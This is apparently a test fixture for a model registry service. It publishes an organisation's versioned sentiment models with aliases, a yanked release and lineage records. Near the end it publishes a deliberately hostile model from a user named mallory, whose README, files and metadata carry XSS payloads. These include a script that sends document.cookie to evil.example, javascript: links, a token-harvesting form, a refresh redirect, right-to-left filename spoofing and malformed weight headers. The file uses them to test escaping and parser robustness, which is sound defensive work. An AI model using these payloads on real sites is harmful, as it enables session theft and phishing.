"""A registry as people have one: an organisation with models that have a history, and one that means harm."""

import struct
import time
import zlib
from dataclasses import dataclass

from tests.house import Person, Registered
from tests.house.people import path_of
from tests.server.core.files.weight_files import gguf_header, gguf_pair, gguf_string, gguf_tensor, safetensors

README = """---
license: apache-2.0
pipeline_tag: text-classification
---
# Harbour sentiment

Tells **how the harbour feels** about a ship, from the letters of its merchants.

| split | accuracy | letters |
|---|---:|---:|
| valid | 0.91 | 1,200 |
| test | 0.89 | 4,800 |

![the quay](images/quay.png)

## How it was trained

1. Letters were read by *three* clerks.
2. What they did not agree on was left out.

```python
from steelyard import Client

print(Client().get("hanse/sentiment"))
```

> Weights are weighed before they are stored.

See [the configuration](config.json) and [the Hanse](https://example.org/hanse).
"""


def png(width: int = 160, height: int = 60, colour: tuple[int, int, int] = (14, 107, 122)) -> bytes:
    """A picture of one colour."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = b"".join(b"\0" + bytes(colour) * width for _ in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def weights(layers: int, width: int = 8) -> bytes:
    """A small transformer, by the names of its tensors."""
    shapes: dict[str, list[int]] = {"embeddings.weight": [64, width]}
    for layer in range(layers):
        shapes |= {f"encoder.layer.{layer}.{part}.weight": [width, width] for part in ("query", "key", "value")}
    return safetensors(shapes, {"format": "pt"})


def gguf() -> bytes:
    """A small model of llama.cpp's."""
    pairs = gguf_pair("general.architecture", 8, gguf_string("llama")) + gguf_pair(
        "llama.block_count", 4, struct.pack("<I", 2)
    )
    tensors = gguf_tensor("token_embd.weight", [8, 64]) + gguf_tensor("blk.0.attn_q.weight", [8, 8], offset=2048)
    return gguf_header(2, 2) + pairs + tensors + bytes(4096)


@dataclass(frozen=True)
class World:
    """Who is in it: ada owns `hanse`, bob contributes, carol reads, and mallory has an organisation of his own."""

    registry: Registered
    ada: Person
    bob: Person
    carol: Person
    mallory: Person

    def wait_for_downloads(self, model: str = "hanse/sentiment", number: int = 3) -> None:
        """Until so many are counted: that is done within seconds."""
        path, ends = f"{path_of(model)}/versions/downloads", time.monotonic() + 30
        while self.ada.get(path).json()["total"] < number:
            assert time.monotonic() < ends, "nobody counts downloads"
            time.sleep(0.05)


def make_world(registry: Registered) -> World:
    """Publish it all."""
    ada, bob, carol, mallory = (registry.user(name) for name in ("ada", "bob", "carol", "mallory"))
    _ok(registry.admin.post("/orgs", {"key": "hanse", "name": "Hanseatic League", "owner": "ada"}))
    _ok(ada.post("/org/hanse/service-accounts", {"name": "builder", "role": "contributor"}))
    for person, role in ((bob, "contributor"), (carol, "reader")):
        _ok(ada.post("/org/hanse/members", {"username": person.name, "role": role}))
    _publish_sentiment(ada, bob)
    _publish_family(ada)
    for person in (ada, bob, carol):
        _ok(person.get("/org/hanse/models/sentiment/2.1.0/files/config.json"))
    return World(registry, ada, bob, carol, mallory)


def _ok(response: object) -> None:
    assert response.is_success, response.text  # type: ignore[attr-defined]


def _publish_sentiment(ada: Person, bob: Person) -> None:
    """Seven versions, of which one was a mistake, and an alias that moved twice."""
    name, path = "hanse/sentiment", "/org/hanse/models/sentiment"
    scores = {
        "1.0.0": 0.81,
        "1.1.0": 0.84,
        "1.2.0": 0.83,
        "2.0.0-rc.1": 0.87,
        "2.0.0": 0.88,
        "2.0.1": 0.52,
        "2.1.0": 0.91,
    }
    for number, (version, accuracy) in enumerate(scores.items(), start=1):
        files = {
            "README.md": README.encode(),
            "config.json": f'{{"layers": {number}, "hidden_size": 8}}\n'.encode(),
            "images/quay.png": png(),
            "model.safetensors": weights(number),
            "tokenizer.json": b'{"vocabulary": ["weigh", "load"]}\n' * 200,
        }
        _ok(
            (ada if number % 2 else bob).publish(
                f"{name}:{version}",
                files,
                summary="How the harbour feels about a ship",
                task="text-classification",
                license="apache-2.0",
                tags=["letters", "baltic"],
                language=["en", "de"],
                metrics={"accuracy": accuracy, "loss": round(1 - accuracy, 3), "trained_on": f"week {number}"},
                is_public=True if number == 1 else None,
            )
        )
    for version in ("1.1.0", "2.0.0", "2.1.0"):
        _ok(ada.post(f"{path}/{version}/aliases", {"alias": "production"}))
    _ok(ada.put(f"{path}/2.0.1/yank", {"reason": "The scales were not set to zero."}))


def _publish_family(ada: Person) -> None:
    """What it came from, and what was made of it."""
    base = {"model.safetensors": weights(50), "config.json": b"{}"}
    _ok(
        ada.publish(
            "hanse/base:1.0.0", base, summary="Where letters begin", license="mit", is_public=True, tags=["baltic"]
        )
    )
    origin = {
        "source": "training_run",
        "run_id": "quay-7",
        "derived_from": [{"name": "hanse/base", "version": "1.0.0", "relation": "finetune"}],
    }
    tuned = {**base, "adapter.safetensors": weights(1)}
    _ok(
        ada.publish(
            "hanse/tuned:1.0.0",
            tuned,
            summary="Tuned at the quay",
            base_model="hanse/base",
            origin=origin,
            task="text-generation",
        )
    )
    small = {"model.gguf": gguf(), "config.json": b"{}"}
    origin = {
        "source": "converted",
        "derived_from": [{"name": "hanse/tuned", "version": "1.0.0", "relation": "quantized"}],
    }
    _ok(ada.publish("hanse/tuned-gguf:1.0.0", small, framework="gguf", summary="For small ships", origin=origin))


SCRIPT = "<script>document.title='owned'; fetch('https://evil.example/'+document.cookie)</script>"
HOSTILE_README = f"""---
license: "\\"><img src=x onerror=alert(1)>"
---
# {SCRIPT} <img src=x onerror="document.title='owned'">

[click](javascript:document.title='owned') [data](data:text/html,{SCRIPT}) ![track](https://evil.example/pixel.png)

<svg onload="document.title='owned'"><style>*{{display:none}}</style></svg>
<iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><input name="token"></form>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<a href="https://evil.example/" onclick="document.title='owned'">text</a> \u202egnp.exe

{"| a " * 200}|
{"|---" * 200}|
{("| b " * 200 + "|" + chr(10)) * 200}
{"> " * 300}deep
{"[" * 3000}
"""


def publish_hostile(mallory: Person) -> None:
    """A model whose every word tries something."""
    image = f'<svg xmlns="http://www.w3.org/2000/svg" onload="document.title=\'owned\'">{SCRIPT}</svg>'.encode()
    files = {
        "README.md": HOSTILE_README.encode(),
        "page.html": f"<!doctype html>{SCRIPT}".encode(),
        "image.svg": image,
        "really.png": image,
        "wide.txt": b"x" * 2_000_000,
        "odd \u202etxt.exe": "\u202eturned\u2066 \x00\x07".encode(),
        "a'b\"c<d>&e.json": SCRIPT.encode(),
        "lies.safetensors": struct.pack("<Q", 2**63) + b"{}",
        "deep.safetensors": struct.pack("<Q", 100_000) + b"[" * 100_000,
        "lies.gguf": b"GGUF" + struct.pack("<IQQ", 3, 2**60, 2**60),
    }
    _ok(
        mallory.publish(
            "mallory/trap:1.0.0",
            files,
            summary=f"{SCRIPT} \u202eeci",
            task=SCRIPT,
            license=SCRIPT,
            base_model=SCRIPT,
            pretty_name=SCRIPT,
            tags=[SCRIPT, "\u202etag", "'\"><b>"],
            metrics={SCRIPT: 1e308, "low": -1e308, "word": SCRIPT},
            origin={
                "source": SCRIPT,
                "url": "javascript:document.title='owned'",
                "derived_from": [{"name": SCRIPT, "version": SCRIPT, "relation": "finetune"}],
            },
            is_public=True,
        )
    )
